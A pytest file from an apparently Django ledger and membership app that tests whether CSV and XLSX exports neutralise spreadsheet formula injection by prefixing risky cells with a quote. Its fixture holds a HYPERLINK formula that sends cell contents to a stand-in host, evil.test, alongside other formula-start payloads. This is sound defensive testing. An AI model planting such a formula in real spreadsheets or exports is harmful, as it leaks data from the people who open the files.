"""Formula injection: a text that a spreadsheet would run as a formula (a name such as
=HYPERLINK(...)) reaches every exported CSV and XLSX cell as text."""

from __future__ import annotations

import csv
import io
from datetime import date

import pytest
from django.urls import reverse
from openpyxl import load_workbook

from cordones.core.cells import safe_cell
from cordones.ledger import exports
from cordones.ledger import services as ledger
from cordones.ledger.selectors import reports_get
from cordones.members import services as members
from tests.web.economy_support import council_access

pytestmark = pytest.mark.django_db

LINK = '=HYPERLINK("http://evil.test/?d="&A1,"Ver")'


@pytest.mark.parametrize("text", [LINK, "+1+1", "-2+3", "@SUM(A1)", "\t=1", "\r=1"])
def test_texts_that_start_a_formula_are_made_text(text):
    assert safe_cell(text) == "'" + text


@pytest.mark.parametrize("value", ["Ana", "", 12, None])
def test_other_values_are_left_alone(value):
    assert safe_cell(value) == value


def test_register_csv_neutralises_a_formula_in_a_name(client, shop):
    members.member_admit(
        shop.clerk,
        shop.workplace,
        number=40,
        full_name=LINK,
        national_id="+5491100000000",
        admitted_on=date(2024, 1, 1),
    )
    client.force_login(shop.users["secretary"])
    body = client.get(reverse("register_csv", args=[shop.workplace.slug])).content.decode()
    # the download follows a Spanish spreadsheet: a BOM and ";" between cells (ADR 14)
    rows = csv.reader(io.StringIO(body.removeprefix("\ufeff")), delimiter=";")
    row = next(r for r in rows if r[0] == "40")
    assert row[1] == "'" + LINK
    assert row[2] == "'+5491100000000"
    assert not any(
        cell.startswith(("=", "+", "@")) for r in csv.reader(io.StringIO(body)) for cell in r
    )


def test_ledger_csv_and_xlsx_neutralise_a_formula_in_an_account_name(shop):
    council = council_access(shop)
    ledger.account_add(council, shop.workplace, code="5.9", name=LINK, type="expense")
    ledger.entry_post(
        council,
        shop.workplace,
        on=date(2025, 3, 1),
        narration="Gasto",
        lines=[("5.9", "10.00", None, ""), ("1.1.02", None, "10.00", "")],
    )
    table = exports.report_table(
        reports_get(shop.workplace, date(2025, 1, 1), date(2025, 12, 31)), "trial-balance"
    )
    rows = list(csv.reader(io.StringIO(exports.table_csv(table))))
    row = next(r for r in rows if r[0] == "5.9")
    assert row[1] == "'" + LINK
    bank = next(r for r in rows if r[0] == "1.1.02")
    assert bank[4] == "-10.00"  # a negative amount stays a number
    sheet = load_workbook(io.BytesIO(exports.table_xlsx(table))).active
    cells = [c for line in sheet.iter_rows() for c in line if c.value is not None]
    assert not [c for c in cells if c.data_type == "f"]  # no formula anywhere
    assert "'" + LINK in [c.value for c in cells]
